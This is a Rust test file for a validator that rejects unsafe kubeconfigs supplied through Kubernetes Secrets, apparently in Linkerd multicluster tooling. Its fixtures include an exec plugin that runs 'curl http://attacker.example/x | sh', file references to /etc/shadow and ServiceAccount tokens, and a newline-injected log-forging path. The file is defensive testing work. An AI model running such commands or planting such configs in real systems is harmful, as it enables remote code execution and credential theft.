use super::*;

/// One kubeconfig, the switch, and the outcome wanted.
struct Case {
    name: &'static str,
    yaml: &'static str,
    allow_exec: bool,
    want: Result<(), Refused>,
}

fn exec(user: &str, command: &str) -> Result<(), Refused> {
    Err(Refused::Exec {
        user: user.into(),
        command: command.into(),
    })
}

fn file(
    entry: Entry,
    name: &str,
    field: &'static str,
    inline: &'static str,
    path: &str,
) -> Result<(), Refused> {
    Err(Refused::FileReference {
        entry,
        name: name.into(),
        field,
        inline,
        path: path.into(),
    })
}

/// What `linkerd multicluster link` writes: a ServiceAccount token and the
/// CA inline.
const TOKEN_USER: &str = r#"
apiVersion: v1
kind: Config
clusters:
- name: east
  cluster:
    server: https://east.example:6443
    certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==
users:
- name: east-link
  user:
    token: eyJhbGciOiJSUzI1NiJ9.e30.c2ln
contexts:
- name: east
  context:
    cluster: east
    user: east-link
current-context: east
"#;

const EXEC_USER: &str = r#"
clusters:
- name: east
  cluster:
    server: https://east.example:6443
users:
- name: east-admin
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: /bin/sh
      args: ["-c", "curl -s http://attacker.example/x | sh"]
contexts:
- name: east
  context: {cluster: east, user: east-admin}
current-context: east
"#;

fn cases() -> Vec<Case> {
    vec![
        Case {
            name: "plain token user, inline CA",
            yaml: TOKEN_USER,
            allow_exec: false,
            want: Ok(()),
        },
        Case {
            name: "inline client certificate and key",
            yaml: r#"
clusters:
- name: east
  cluster:
    server: https://east.example:6443
    certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==
    tls-server-name: kubernetes
users:
- name: east-cert
  user:
    client-certificate-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==
    client-key-data: LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCg==
contexts:
- name: east
  context: {cluster: east, user: east-cert, namespace: linkerd-multicluster}
current-context: east
"#,
            allow_exec: false,
            want: Ok(()),
        },
        Case {
            name: "exec set to null is no exec",
            yaml: r#"
clusters:
- name: east
  cluster: {server: "https://east.example:6443"}
users:
- name: east-link
  user:
    token: abc
    exec: null
    auth-provider: null
    tokenFile: null
contexts:
- name: east
  context: {cluster: east, user: east-link}
current-context: east
"#,
            allow_exec: false,
            want: Ok(()),
        },
        Case {
            name: "user and cluster entries without a body",
            yaml: r#"
clusters:
- name: east
users:
- name: nobody
contexts:
- name: east
  context: {cluster: east}
current-context: east
"#,
            allow_exec: false,
            want: Ok(()),
        },
        Case {
            name: "empty text (nothing to run or read; the client refuses it)",
            yaml: "",
            allow_exec: false,
            want: Ok(()),
        },
        Case {
            name: "exec user",
            yaml: EXEC_USER,
            allow_exec: false,
            want: exec("east-admin", "/bin/sh"),
        },
        Case {
            name: "exec user, allowed",
            yaml: EXEC_USER,
            allow_exec: true,
            want: Ok(()),
        },
        Case {
            name: "exec without a command",
            yaml: r#"
users:
- name: east-admin
  user:
    exec: {apiVersion: client.authentication.k8s.io/v1}
"#,
            allow_exec: false,
            want: exec("east-admin", "no command"),
        },
        Case {
            name: "exec found before a file reference in the same user",
            yaml: r#"
users:
- name: east-admin
  user:
    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token
    exec: {command: aws, args: [eks, get-token]}
"#,
            allow_exec: false,
            want: exec("east-admin", "aws"),
        },
        Case {
            name: "gcp auth-provider (runs cmd-path)",
            yaml: r#"
clusters:
- name: east
  cluster: {server: "https://east.example:6443"}
users:
- name: east-gke
  user:
    auth-provider:
      name: gcp
      config:
        cmd-path: /bin/sh
        cmd-args: -c id
contexts:
- name: east
  context: {cluster: east, user: east-gke}
current-context: east
"#,
            allow_exec: false,
            want: Err(Refused::AuthProvider {
                user: "east-gke".into(),
                provider: "gcp".into(),
            }),
        },
        Case {
            name: "oidc auth-provider (refused whatever the provider)",
            yaml: r#"
users:
- name: east-oidc
  user:
    auth-provider:
      name: oidc
      config: {id-token: abc, idp-issuer-url: "https://issuer.example"}
"#,
            allow_exec: false,
            want: Err(Refused::AuthProvider {
                user: "east-oidc".into(),
                provider: "oidc".into(),
            }),
        },
        Case {
            name: "auth-provider, allowed",
            yaml: r#"
users:
- name: east-gke
  user:
    auth-provider: {name: gcp, config: {cmd-path: /bin/sh}}
"#,
            allow_exec: true,
            want: Ok(()),
        },
        Case {
            name: "tokenFile (our own ServiceAccount token)",
            yaml: r#"
clusters:
- name: east
  cluster:
    server: https://east.example:6443
    certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==
users:
- name: east-link
  user:
    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token
contexts:
- name: east
  context: {cluster: east, user: east-link}
current-context: east
"#,
            allow_exec: false,
            want: file(
                Entry::User,
                "east-link",
                "tokenFile",
                "token",
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
            ),
        },
        Case {
            name: "tokenFile beside an inline token (kube would not read it)",
            yaml: r#"
users:
- name: east-link
  user:
    token: abc
    tokenFile: /etc/shadow
"#,
            allow_exec: false,
            want: file(
                Entry::User,
                "east-link",
                "tokenFile",
                "token",
                "/etc/shadow",
            ),
        },
        Case {
            name: "client-certificate path",
            yaml: r#"
users:
- name: east-cert
  user:
    client-certificate: /etc/tls/tls.crt
    client-key-data: LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCg==
"#,
            allow_exec: false,
            want: file(
                Entry::User,
                "east-cert",
                "client-certificate",
                "client-certificate-data",
                "/etc/tls/tls.crt",
            ),
        },
        Case {
            name: "client-key path",
            yaml: r#"
users:
- name: east-cert
  user:
    client-certificate-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==
    client-key: ../../etc/tls/tls.key
"#,
            allow_exec: false,
            want: file(
                Entry::User,
                "east-cert",
                "client-key",
                "client-key-data",
                "../../etc/tls/tls.key",
            ),
        },
        Case {
            name: "certificate-authority path",
            yaml: r#"
clusters:
- name: east
  cluster:
    server: https://east.example:6443
    certificate-authority: /var/run/secrets/kubernetes.io/serviceaccount/ca.crt
users:
- name: east-link
  user: {token: abc}
contexts:
- name: east
  context: {cluster: east, user: east-link}
current-context: east
"#,
            allow_exec: false,
            want: file(
                Entry::Cluster,
                "east",
                "certificate-authority",
                "certificate-authority-data",
                "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
            ),
        },
        Case {
            name: "file reference, allowed",
            yaml: r#"
clusters:
- name: east
  cluster: {server: "https://east.example:6443", certificate-authority: /ca.crt}
users:
- name: east-link
  user: {tokenFile: /token}
"#,
            allow_exec: true,
            want: Ok(()),
        },
        Case {
            name: "only a user no context names is bad",
            yaml: r#"
clusters:
- name: east
  cluster:
    server: https://east.example:6443
    certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==
users:
- name: east-link
  user: {token: abc}
- name: spare
  user:
    exec: {command: /usr/bin/python3, args: ["-c", "print(1)"]}
contexts:
- name: east
  context: {cluster: east, user: east-link}
current-context: east
"#,
            allow_exec: false,
            want: exec("spare", "/usr/bin/python3"),
        },
        Case {
            name: "only a cluster no context names is bad",
            yaml: r#"
clusters:
- name: east
  cluster: {server: "https://east.example:6443"}
- name: elsewhere
  cluster: {server: "https://10.0.0.1", certificate-authority: /etc/ssl/ca.pem}
users:
- name: east-link
  user: {token: abc}
contexts:
- name: east
  context: {cluster: east, user: east-link}
current-context: east
"#,
            allow_exec: false,
            want: file(
                Entry::Cluster,
                "elsewhere",
                "certificate-authority",
                "certificate-authority-data",
                "/etc/ssl/ca.pem",
            ),
        },
        Case {
            name: "a bad user in a second YAML document (kube merges documents)",
            yaml: r#"
clusters:
- name: east
  cluster: {server: "https://east.example:6443"}
users:
- name: east-link
  user: {token: abc}
contexts:
- name: east
  context: {cluster: east, user: east-link}
current-context: east
---
users:
- name: other
  user:
    exec: {command: sh}
"#,
            allow_exec: false,
            want: exec("other", "sh"),
        },
        Case {
            name: "two users of one name, the second bad",
            yaml: r#"
users:
- name: east-link
  user: {token: abc}
- name: east-link
  user: {tokenFile: /token}
"#,
            allow_exec: false,
            want: file(Entry::User, "east-link", "tokenFile", "token", "/token"),
        },
    ]
}

#[test]
fn table() {
    for case in cases() {
        assert_eq!(
            check_secret_kubeconfig(case.yaml, case.allow_exec),
            case.want,
            "{}",
            case.name
        );
    }
}

#[test]
fn unparsable() {
    let cases = [
        ("not YAML", "clusters: [ {name: east"),
        ("users is not a list", "users: 5\n"),
        ("a user without a name", "users:\n- user: {token: abc}\n"),
        (
            "exec args not a list",
            "users:\n- name: a\n  user:\n    exec: {command: sh, args: 1}\n",
        ),
    ];
    for (name, yaml) in cases {
        for allow_exec in [false, true] {
            let got = check_secret_kubeconfig(yaml, allow_exec);
            assert!(
                matches!(got, Err(Refused::Unparsable(_))),
                "{name}: {got:?}"
            );
        }
    }
}

#[test]
fn unparsable_message_carries_no_secret() {
    // kube's parse error, displayed, quotes the lines around the fault:
    // here the token and the key. The refusal keeps the reason and place.
    let yaml = "users:
- name: east-link
  user:
    token: SECRET-TOKEN
    client-key-data: SECRET-KEY
    exec: {command: sh, args: 1}
";
    let got = check_secret_kubeconfig(yaml, false);
    let Err(refused @ Refused::Unparsable(_)) = got else {
        panic!("{got:?}");
    };
    let message = refused.to_string();
    assert!(!message.contains("SECRET"), "{message}");
    assert!(message.contains("line 6"), "{message}");
    assert!(!message.contains('\n'), "{message}");
}

#[test]
fn size_limit() {
    // Padding in a comment keeps the text a valid kubeconfig, so only the
    // size decides.
    let padded = |len: usize| {
        let mut text = String::from(TOKEN_USER);
        text.push('#');
        text.push_str(&"x".repeat(len - text.len()));
        text
    };
    let at_limit = padded(MAX_SECRET_KUBECONFIG);
    assert_eq!(at_limit.len(), MAX_SECRET_KUBECONFIG);
    assert_eq!(check_secret_kubeconfig(&at_limit, false), Ok(()));

    let over = padded(MAX_SECRET_KUBECONFIG + 1);
    let too_large = Err(Refused::TooLarge {
        size: MAX_SECRET_KUBECONFIG + 1,
        limit: MAX_SECRET_KUBECONFIG,
    });
    assert_eq!(check_secret_kubeconfig(&over, false), too_large);
    // allow_exec does not lift it.
    assert_eq!(check_secret_kubeconfig(&over, true), too_large);
    // Checked before parsing: a megabyte of garbage is too large, not
    // unparsable.
    let garbage = "[".repeat(1 << 20);
    assert_eq!(
        check_secret_kubeconfig(&garbage, false).map_err(|e| e.label()),
        Err("too_large")
    );
}

#[test]
fn messages_name_entry_and_field() {
    let cases: [(&str, &str); 5] = [
        (
            EXEC_USER,
            r#"user "east-admin" has an exec credential plugin (/bin/sh); a kubeconfig from a Secret may not run programs (--allow-kubeconfig-exec allows it)"#,
        ),
        (
            "users:\n- name: g\n  user:\n    auth-provider: {name: gcp}\n",
            r#"user "g" has an auth-provider (gcp); a kubeconfig from a Secret may not use auth providers, which can run programs (--allow-kubeconfig-exec allows it)"#,
        ),
        (
            "users:\n- name: t\n  user: {tokenFile: /token}\n",
            r#"user "t" names a file in tokenFile (/token); a kubeconfig from a Secret must carry its data inline (token), not read the server's files (--allow-kubeconfig-exec allows it)"#,
        ),
        (
            "clusters:\n- name: c\n  cluster: {certificate-authority: /ca.crt}\n",
            r#"cluster "c" names a file in certificate-authority (/ca.crt); a kubeconfig from a Secret must carry its data inline (certificate-authority-data), not read the server's files (--allow-kubeconfig-exec allows it)"#,
        ),
        (
            // A newline in a name or path cannot start a log line of its own.
            "users:\n- name: \"a\\nb\"\n  user: {client-key: \"/k\\nINFO forged\"}\n",
            r#"user "a\nb" names a file in client-key (/k\nINFO forged); a kubeconfig from a Secret must carry its data inline (client-key-data), not read the server's files (--allow-kubeconfig-exec allows it)"#,
        ),
    ];
    for (yaml, want) in cases {
        match check_secret_kubeconfig(yaml, false) {
            Err(e) => assert_eq!(e.to_string(), want),
            Ok(()) => panic!("accepted: {yaml}"),
        }
    }
}

#[test]
fn long_values_are_cut() {
    let long = "/".repeat(10 * MAX_SHOWN);
    let yaml = format!("users:\n- name: u\n  user:\n    exec: {{command: \"{long}\"}}\n");
    match check_secret_kubeconfig(&yaml, false) {
        Err(Refused::Exec { command, .. }) => {
            assert_eq!(command.chars().count(), MAX_SHOWN + 1);
            assert!(command.ends_with('…'));
        }
        other => panic!("{other:?}"),
    }
    // Cut on a character boundary, never inside one.
    let wide = "é".repeat(2 * MAX_SHOWN);
    assert_eq!(cut(&wide).chars().count(), MAX_SHOWN + 1);
    assert_eq!(cut("short"), "short");
}

#[test]
fn labels() {
    let cases = [
        (Refused::TooLarge { size: 2, limit: 1 }, "too_large"),
        (
            Refused::Exec {
                user: "u".into(),
                command: "c".into(),
            },
            "exec",
        ),
        (
            Refused::AuthProvider {
                user: "u".into(),
                provider: "gcp".into(),
            },
            "auth_provider",
        ),
        (
            Refused::FileReference {
                entry: Entry::User,
                name: "u".into(),
                field: "tokenFile",
                inline: "token",
                path: "/t".into(),
            },
            "file_reference",
        ),
        (Refused::Unparsable("x".into()), "unparsable"),
    ];
    for (refused, want) in cases {
        assert_eq!(refused.label(), want, "{refused:?}");
    }
}
